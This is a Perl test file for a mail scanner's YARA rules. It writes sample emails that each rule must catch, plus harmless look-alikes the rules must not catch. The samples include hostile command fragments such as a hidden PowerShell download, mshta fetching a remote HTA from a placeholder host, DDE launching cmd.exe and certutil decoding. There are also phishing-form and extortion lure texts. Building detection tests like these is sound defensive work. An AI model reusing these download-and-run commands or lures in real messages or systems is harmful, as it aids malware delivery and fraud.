#!/usr/bin/perl
# The rules we ship: each finds what it is for, and none finds harm in harmless mail.
use strict;
use warnings;
use File::Temp qw(tempdir);
use JSON::PP;
use MIME::Base64 qw(encode_base64);
use Test::More;

my $mailwitness = $ENV{MAILWITNESS} or BAIL_OUT('MAILWITNESS names the program to test');
plan skip_all => 'built without YARA' if qx($mailwitness --version) !~ /YARA/;
my $rules = "$ENV{top_srcdir}/conf/rules";
my $dir = tempdir(CLEANUP => 1);

my $mz = 'MZ' . "\0" x 58 . pack('V', 64) . "PE\0\0" . "\0" x 200;
my $zip = "PK\3\4";
my $ole = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1";
my $vba = "$ole Attribut VB_Name _VBA_PROJECT ";
my $lnk = pack('V V', 0x4C, 0x21401) . "\0" x 60;
my $onenote = "\xE4\x52\x5C\x7B" . "\0" x 40 . "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC";
my $iso = "\0" x 0x8001 . 'CD001' . "\0" x 100;
# rule => [file name, content] of an attachment that it must find
my %attachments = (
    office_macro_autorun => ['a.doc', "${vba}Sub AutoOpen()"],
    office_macro_runs_program => ['a.doc', "${vba}CreateObject(\"WScript.Shell\")"],
    office_excel4_macro => ['a.xls', "$ole\x85\x00\x10\x00\x01\x02\x03\x04\x01\x01 Auto_Open"],
    office_dde_command => ['a.docx', 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'],
    office_template_from_network => ['a.xml',
        '<R Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm"/>'],
    rtf_embedded_object => ['a.rtf', '{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}'],
    onenote_with_script => ['a.one', "$onenote<HTA:APPLICATION"],
    html_smuggling => ['a.html', '<html><script>var b=new Blob([atob("UEsDBBQAAAAI")])'],
    html_builds_file => ['a.html', '<html><script>var b=new Blob([atob(x)]);a.href=URL.createObjectURL(b)'],
    html_login_form => ['a.html', '<form action="https://x.example/p"><input type="password">'],
    html_redirect_only => ['a.html', '<meta http-equiv="refresh" content="0; url=https://x.example/">'],
    html_obfuscated_script => ['a.html', '<script>eval(atob("YQ=="))</script>'],
    svg_with_script => ['a.svg', '<svg xmlns="x"><script>1</script></svg>'],
    script_downloads_and_runs => ['a.js', 'new ActiveXObject("WScript.Shell"); new ActiveXObject("MSXML2.XMLHTTP")'],
    powershell_hidden_download => ['a.ps1', 'powershell -w hidden (New-Object Net.WebClient).DownloadString("x")'],
    mshta_command => ['a.bat', 'mshta.exe https://x.example/a.hta'],
    hta_application => ['a.hta', '<HTA:APPLICATION ID="x">'],
    batch_dropper => ['a.bat', "\@echo off\ncertutil -decode a b"],
    shortcut_runs_command => ['a.lnk', "$lnk cmd.exe /c start"],
    disk_image_with_shortcut => ['a.iso', "${iso}SETUP.LNK;1"],
    program_in_disguise => ['a.pdf', $mz],
    program_attached => ['a.exe', $mz],
    program_with_screen_saver_name => ['a.scr', $mz],
    archive_with_double_extension => ['a.zip', "${zip}invoice.pdf.exe"],
    pdf_runs_something => ['a.pdf', '%PDF-1.4 /OpenAction /JavaScript'],
    eicar_test_file => ['a.txt', join q{}, 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EIC', 'AR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'],
    jar_attached => ['a.jar', "${zip}META-INF/MANIFEST.MF Main.class"],
);
my %bodies = (
    password_in_body => 'The archive is protected, password: Inv2026',
    enable_content_lure => 'If you see nothing, please Enable Editing.',
    account_suspended_lure => 'Your mailbox will be suspended. Click here to verify: https://x.example/',
    bitcoin_extortion => 'Your device is hacked. Pay bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT',
    voicemail_lure => 'You have a new voicemail. Listen to the attachment.',
    hidden_text => '<div style="display: none">harmless words</div>',
);
# What looks like it and is not: rule => content.
my %not_attachments = (
    html_smuggling => '<html><p>new Blob([new Uint8Array(8)]) makes one, URL.createObjectURL(blob) names it</html>',
    svg_with_script => '<html><body><svg viewBox="0 0 1 1"/><script src="a.js"></script></body></html>',
    office_macro_runs_program => 'e.setAttribute("x", 1); r = new ActiveXObject("MSXML2.XMLHTTP");',
    office_macro_autorun => 'The attribute AutoOpen is described in chapter 3. Attribut',
    office_dde_command => 'they adde cmd',
);
my %not_bodies = (
    password_in_body => "Open the file with your password. The document is protected, a password is required.\n"
        . 'The archive asks for a password when you open it',
    account_suspended_lure => 'The account was locked. Please call the help desk.',
    voicemail_lure => 'I have a new phone.',
    enable_content_lure => 'The content is enabled for editing by all.',
    bitcoin_extortion => 'Bitcoin fell again within 48 hours.',
);

my $count = 0;
sub write_message {
    my ($name, $type, $text, $file) = @_;
    open my $out, '>:raw', "$dir/$name.eml" or die $!;
    print {$out} "From: a\@example.com\nContent-Type: multipart/mixed; boundary=edge\n\n--edge\n",
        "Content-Type: $type\n\n$text\n--edge\n";
    print {$out} "Content-Type: application/octet-stream; name=$file->[0]\nContent-Transfer-Encoding: base64\n\n",
        encode_base64($file->[1]), "\n--edge--\n" if $file;
    close $out or die $!;
    $count++;
}
write_message($_, 'text/plain', 'x', $attachments{$_}) for keys %attachments;
write_message($_, $_ eq 'hidden_text' ? 'text/html' : 'text/plain', $bodies{$_}) for keys %bodies;
write_message("not-$_", 'text/plain', 'x', ['a.html', $not_attachments{$_}]) for keys %not_attachments;
write_message("not-$_", 'text/plain', $not_bodies{$_}) for keys %not_bodies;

sub reports {
    my ($folder) = @_;
    open my $scan, '-|', $mailwitness, 'scan', '--jsonl', '--rules', "$rules/attachments", '--body-rules',
        "$rules/bodies", $folder or die $!;
    return map { decode_json($_) } <$scan>;
}

sub matched {
    my ($report) = @_;
    return map { $_->{name} } grep { $_->{scanner} eq 'yara' } @{ $report->{findings} },
        map { @{ $_->{findings} } } @{ $report->{attachments} };
}

my %found;
for my $report (reports($dir)) {
    my ($name) = $report->{source} =~ m{([^/]+)[.]eml$};
    $found{$name} = { map { $_ => 1 } matched($report) };
}
for my $rule (sort keys %attachments, keys %bodies) {
    ok($found{$rule}{$rule}, "$rule finds its sample") or diag(join q{ }, keys %{ $found{$rule} });
}
for my $rule (sort keys %not_attachments, keys %not_bodies) {
    ok($found{"not-$rule"} && !$found{"not-$rule"}{$rule}, "$rule does not find what only looks like it");
}
my %shipped;
for my $file (glob "$rules/*/*.yar") {
    open my $in, '<', $file or die $!;
    /^rule (\w+)/ and $shipped{$1} = 1 while <$in>;
}
is_deeply([sort keys %shipped], [sort keys %attachments, keys %bodies], 'every rule we ship has a sample');
cmp_ok(scalar keys %shipped, '>=', 25, 'there are at least 25 rules');
my %harmless = map { my ($name) = $_->{source} =~ m{([^/]+)[.]eml$}; ($name => [matched($_)]) }
    reports("$ENV{top_srcdir}/t/fixtures/messages");
my @alarms = grep { @{ $harmless{$_} } } sort keys %harmless;
is("@alarms", 'html-smuggling', 'no rule finds anything in harmless sample messages');
done_testing();
